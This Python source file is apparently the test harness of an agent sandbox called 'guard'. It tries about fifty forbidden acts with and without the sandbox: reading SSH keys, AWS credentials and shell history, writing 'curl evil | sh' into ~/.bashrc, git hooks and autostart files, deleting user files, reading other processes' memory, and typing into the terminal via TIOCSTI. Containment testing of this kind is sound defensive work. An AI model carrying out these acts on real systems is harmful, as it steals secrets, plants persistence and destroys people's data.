"""What an agent must not do, one row an act, and the program that tries them all.

`python dangers.py STAGE` is started twice by the demo, in the same throw-away home: without guard, where each
act must succeed, and under `guard run`, where each must fail. An act counts as done when its effect is there,
not when its call said so. It imports the standard library alone: it is copied beside the project and run by
the system's Python.
"""

import ctypes
import errno
import json
import os
import resource
import signal
import socket
import stat
import sys
from collections.abc import Callable
from typing import NamedTuple

Stage = dict[str, str | int]
"""What the demo laid out: `home`, `victim` (a process outside), `secret` (where in its memory), `port`,
`abstract`, `datagram` (sockets of daemons outside), `segment` (the key of System V memory outside), `descriptor` (left
open on the key), `control` (whose acts to try, "" for all). The working directory is the project, a git clone."""


class Act(NamedTuple):
    """One row.

    Args:
        name: said to people; at most 35 characters.
        control: what stops it.
        run: does it, with the stage; OSError when refused.
        mask: only a mount namespace can stop it.
    """

    name: str
    control: str
    run: Callable[[Stage], object]
    mask: bool = False


class NotHereError(Exception):
    """Nothing to try it with on this machine."""


class NoEffectError(Exception):
    """The call said that it was done, and it was not."""


class EmptyError(Exception):
    """The file can be opened, and nothing is in it."""


# --- files -----------------------------------------------------------------------------------------------


def home(stage: Stage, name: str) -> str:
    return f"{stage['home']}/{name}"


def read(path: str) -> str:
    with open(path, encoding="utf-8") as file:
        text = file.read()
    if not text:
        raise EmptyError  # a mask shows a denied file as an empty one
    return text


def write(path: str, text: str = "curl evil | sh\n", mode: str = "a") -> None:
    with open(path, mode, encoding="utf-8") as file:
        file.write(text)


def read_through_link(stage: Stage) -> None:
    os.symlink(home(stage, ".ssh/id_ed25519"), "config.txt")
    read("config.txt")


def move_over_hook(_: Stage) -> None:
    write("innocent")
    os.rename("innocent", ".git/hooks/post-merge")


def plant_program(stage: Stage) -> None:
    write("ls")
    os.rename("ls", home(stage, "bin/ls"))


def shared_tmp(_: Stage) -> None:
    path = f"/tmp/guard-demo-{os.getpid()}"
    write(path)
    os.unlink(path)


# --- modes -----------------------------------------------------------------------------------------------


def change_mode(path: str, mode: int, change: Callable[[str, int], object] = os.chmod) -> None:
    change(path, mode)
    expect(stat.S_IMODE(os.stat(path).st_mode) == mode)


def expect(there: bool) -> None:
    """Some refusals leave something away instead of failing: `strip` in the policy."""
    if not there:
        raise NoEffectError


def fchmod(path: str, mode: int) -> None:
    os.fchmod(os.open(path, os.O_RDONLY), mode)


def made(make: Callable[[str], object], bit: int) -> None:
    os.umask(0)
    path = f"made-{os.getpid()}"
    make(path)
    expect(bool(os.stat(path).st_mode & bit))


def make_file(mode: int) -> Callable[[str], object]:
    return lambda path: os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, mode)


def acl(_: Stage) -> None:
    # posix_acl_xattr: version 2, then tag, permission, id of owner, group and other; other gets rw.
    entry = b"".join(
        tag.to_bytes(2, "little") + permission.to_bytes(2, "little") + b"\xff" * 4
        for tag, permission in ((1, 6), (4, 4), (32, 6))
    )
    os.setxattr("c/main.c", "system.posix_acl_access", b"\x02\0\0\0" + entry)
    expect(bool(os.stat("c/main.c").st_mode & 0o002))


# --- network and sockets -----------------------------------------------------------------------------------


def bind(kind: int, address: str) -> None:
    with socket.socket(kind) as server:
        server.bind((address, 0))
        server.listen()
        expect(server.getsockname()[0] == address)  # a wildcard is rewritten to loopback


def connect(stage: Stage, protocol: int = 0) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol) as client:
        client.connect(("127.0.0.1", int(stage["port"])))
        client.recv(1)


def fast_open(stage: Stage) -> None:
    with socket.socket() as client:
        client.sendto(b"hello", 0x20000000, ("127.0.0.1", int(stage["port"])))
        client.recv(1)


def abstract(stage: Stage) -> None:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(f"\0{stage['abstract']}")


def datagram(stage: Stage) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as client:
        client.sendto(b"run this", str(stage["datagram"]))


# --- processes ---------------------------------------------------------------------------------------------

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
COLUMN = {"x86_64": 0, "aarch64": 1}.get(os.uname().machine)
NUMBERS = {
    "ptrace": (101, 117), "process_vm_readv": (310, 270), "keyctl": (250, 219), "add_key": (248, 217),
    "perf_event_open": (298, 241), "userfaultfd": (323, 282), "personality": (135, 92), "unshare": (272, 97),
    "mount": (165, 40), "shmget": (29, 194), "shmctl": (31, 195), "ioctl": (16, 29), "bpf": (321, 280),
    "io_uring_setup": (425, 425), "pidfd_getfd": (438, 438), "fchmodat2": (452, 452),
}  # fmt: skip


def call(name: str, *args: object) -> int:
    """Make a system call; OSError when it fails."""
    if COLUMN is None:
        raise NotHereError
    words = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    result = int(LIBC.syscall(ctypes.c_long(NUMBERS[name][COLUMN]), *words))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def victim(stage: Stage) -> int:
    return int(stage["victim"])


def read_memory(stage: Stage) -> None:
    buffer = ctypes.create_string_buffer(6)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 6)
    there = (ctypes.c_size_t * 2)(int(stage["secret"]), 6)
    call("process_vm_readv", victim(stage), here, 1, there, 1, 0)
    expect(buffer.raw == b"secret")


def read_mem_file(stage: Stage) -> None:
    with open(f"/proc/{victim(stage)}/mem", "rb") as memory:
        memory.seek(int(stage["secret"]))
        expect(memory.read(6) == b"secret")


def take_descriptor(stage: Stage) -> None:
    os.fstat(call("pidfd_getfd", os.pidfd_open(victim(stage)), 1, 0))


def limit(stage: Stage) -> None:
    try:
        hard = resource.prlimit(victim(stage), resource.RLIMIT_NOFILE)[1]
        resource.prlimit(victim(stage), resource.RLIMIT_NOFILE, (17, hard))
    except PermissionError as error:
        raise OSError(errno.EPERM, str(error)) from error


def core(_: Stage) -> None:
    """Ask for the core files that the policy's limit forbids, and get them."""
    hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
    if hard == 0 and not os.environ.get("GUARD_SESSION"):
        raise NotHereError
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (4096, hard or 4096))
    except ValueError as error:
        raise OSError(errno.EPERM, str(error)) from error


# --- kernel surface ----------------------------------------------------------------------------------------


def type_into_terminal(high: int) -> None:
    """Type into one's own terminal: what reads it after us takes it for the person's word."""
    call("ioctl", 0, high | 0x5412, b"\n")


def mount(_: Stage) -> None:
    call("unshare", 0x10000000 | 0x00020000)
    call("mount", b"none", b"/tmp", b"tmpfs", 0, None)


def shared_memory(stage: Stage) -> None:
    call("shmget", int(stage["segment"]), 0, 0)


def no_random_layout(_: Stage) -> None:
    call("personality", call("personality", 0xFFFFFFFF) | 0x0040000)


def perf(_: Stage) -> None:
    # perf_event_attr: software, its size, CPU clock; kernel and hypervisor excluded.
    attributes = bytearray(128)
    attributes[0:8] = (1).to_bytes(4, "little") + (128).to_bytes(4, "little")
    attributes[40:48] = (1 << 5 | 1 << 6).to_bytes(8, "little")
    call("perf_event_open", bytes(attributes), 0, -1, -1, 0)


def program_32(_: Stage) -> None:
    """Run a program of 93 bytes that exits with 7 by int 0x80."""
    if os.uname().machine != "x86_64":
        raise NotHereError
    code = bytes.fromhex("b801000000bb07000000cd80")
    size, base = 84 + len(code), 0x08048000
    fields = (
        (2, 2), (3, 2), (1, 4), (base + 84, 4), (52, 4), (0, 4), (0, 4), (52, 2), (32, 2), (1, 2), (0, 2), (0, 2),
        (0, 2), (1, 4), (0, 4), (base, 4), (base, 4), (size, 4), (size, 4), (5, 4), (4096, 4),
    )  # fmt: skip
    head = bytes.fromhex("7f454c46010101") + bytes(9) + b"".join(n.to_bytes(w, "little") for n, w in fields)
    with open("elf32", "wb") as file:
        file.write(head + code)
    os.chmod("elf32", 0o700)
    child = os.fork()
    if child == 0:
        os.execv("./elf32", ["elf32"])
    code_ = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code_ < 0:
        os.kill(os.getpid(), -code_)
    expect(code_ == 7)


FILES = "files"
ACTS = (
    Act("read ~/.ssh/id_ed25519", FILES, lambda s: read(home(s, ".ssh/id_ed25519"))),
    Act("read it by a link in the project", FILES, read_through_link),
    Act("hard-link it into the project", FILES, lambda s: os.link(home(s, ".ssh/id_ed25519"), "key")),
    Act("read it by a descriptor left open", FILES, lambda s: os.pread(int(s["descriptor"]), 9, 0)),
    Act("read ~/.aws/credentials", FILES, lambda s: read(home(s, ".aws/credentials"))),
    Act("read ~/.bash_history", FILES, lambda s: read(home(s, ".bash_history"))),
    Act("append to ~/.bashrc", FILES, lambda s: write(home(s, ".bashrc"))),
    Act("write ~/.config/autostart/x.desktop", FILES, lambda s: write(home(s, ".config/autostart/x.desktop"))),
    Act("move a program to ~/bin/ls", FILES, plant_program),
    Act("write .git/hooks/pre-commit", FILES, lambda _: write(".git/hooks/pre-commit"), mask=True),
    Act("mv a file to .git/hooks/post-merge", FILES, move_over_hook, mask=True),
    Act(
        "write core.fsmonitor to .git/config", FILES, lambda _: write(".git/config", "[core]\nfsmonitor=x\n"), mask=True
    ),
    Act("truncate ~/notes.txt", FILES, lambda s: os.truncate(home(s, "notes.txt"), 0)),
    Act("move ~/notes.txt into the project", FILES, lambda s: os.rename(home(s, "notes.txt"), "notes.txt")),
    Act("delete ~/thesis.tex", FILES, lambda s: os.unlink(home(s, "thesis.tex"))),
    Act("leave a file in the shared /tmp", FILES, shared_tmp),
    Act("chmod 777 a file", "world-writable", lambda _: change_mode("c/main.c", 0o777)),
    Act("chmod o+w a directory, by fchmod", "world-writable", lambda _: change_mode("c", 0o757, fchmod)),
    Act("mkdir -m 777, umask 0", "world-writable", lambda _: made(lambda path: os.mkdir(path, 0o777), 0o002)),
    Act("create a file 666, umask 0", "world-writable", lambda _: made(make_file(0o666), 0o002)),
    Act("give others write access by an ACL", "metadata", acl),
    Act("chmod u+s a program", "setuid", lambda _: change_mode("tool", 0o4755)),
    Act("create a file 4755", "setuid", lambda _: made(make_file(0o4755), stat.S_ISUID)),
    Act("listen on 0.0.0.0", "bind", lambda _: bind(socket.AF_INET, "0.0.0.0")),
    Act("listen on [::]", "bind", lambda _: bind(socket.AF_INET6, "::")),
    Act("connect to a service of one's own", "connect", connect),
    Act("the same, by TCP fast open", "connect", fast_open),
    Act("the same, by MPTCP", "connect", lambda s: connect(s, 262)),
    Act("connect to an abstract socket", "unix-sockets", abstract),
    Act("send to a daemon's datagram socket", "unix-sockets", datagram),
    Act("ptrace a process outside", "processes", lambda s: call("ptrace", 0x4206, victim(s), 0, 0)),
    Act("read its memory (process_vm_readv)", "processes", read_memory),
    Act("read its memory (/proc/PID/mem)", "processes", read_mem_file),
    Act("read its environment", "processes", lambda s: read(f"/proc/{victim(s)}/environ")),
    Act("take its descriptor (pidfd_getfd)", "processes", take_descriptor),
    Act("set its limits (prlimit)", "processes", limit),
    Act("type into the terminal (TIOCSTI)", "kernel-surface", lambda _: type_into_terminal(0)),
    Act("the same, with high bits set", "kernel-surface", lambda _: type_into_terminal(1 << 40)),
    Act("make a user namespace", "kernel-surface", lambda _: call("unshare", 0x10000000)),
    Act("mount over /tmp in one", "kernel-surface", mount),
    Act("set up io_uring", "kernel-surface", lambda _: call("io_uring_setup", 4, bytes(120))),
    Act("add a key to the key ring", "kernel-surface", lambda _: call("add_key", b"user", b"demo", b"x", 1, -3)),
    Act("open another's System V memory", "kernel-surface", shared_memory),
    Act("switch address randomisation off", "kernel-surface", no_random_layout),
    Act("handle page faults (userfaultfd)", "kernel-surface", lambda _: call("userfaultfd", 1)),
    Act("watch the CPU (perf_event_open)", "kernel-surface", perf),
    Act("run a 32-bit program", "kernel-surface", program_32),
    Act("allow core files", "limits", core),
    Act("kill a process outside", "processes", lambda s: os.kill(victim(s), signal.SIGTERM)),
)


def attempt(act: Act, stage: Stage) -> str:
    """Do one act in a child: `done`, the name of an errno or a signal, `no effect`, `empty`,
    `not here`, or `broken`."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        _attempt(act, stage, writer)
    os.close(writer)
    with os.fdopen(reader, encoding="utf-8") as told:
        said = told.read()
    status = os.waitpid(child, 0)[1]
    return signal.Signals(os.WTERMSIG(status)).name if os.WIFSIGNALED(status) else said


def _attempt(act: Act, stage: Stage, writer: int) -> None:
    said = "broken"
    signal.alarm(10)
    try:
        act.run(stage)
        said = "done"
    except NotHereError:
        said = "not here"
    except NoEffectError:
        said = "no effect"
    except EmptyError:
        said = "empty"
    except OSError as error:
        said = errno.errorcode.get(error.errno or 0, "broken")
        said = "EOPNOTSUPP" if said == "ENOTSUP" else said
    except Exception as error:  # noqa: BLE001 - a fault of the act itself; it must not count as a refusal
        said = f"broken: {error}"
    finally:
        os.write(writer, said.encode())
        os._exit(0)


def masked(stage: Stage) -> bool:
    """Whether anything below the home is covered by a mount of this session."""
    return f" {stage['home']}/" in read("/proc/self/mountinfo")


def main(argument: str) -> None:
    """Try every act, or those of the control that the stage names; one JSON object on standard output."""
    stage: Stage = json.loads(argument)
    acts = [act for act in ACTS if stage["control"] in ("", act.control)]
    print(json.dumps({"masked": masked(stage), "acts": {act.name: attempt(act, stage) for act in acts}}))


if __name__ == "__main__":
    main(sys.argv[1])
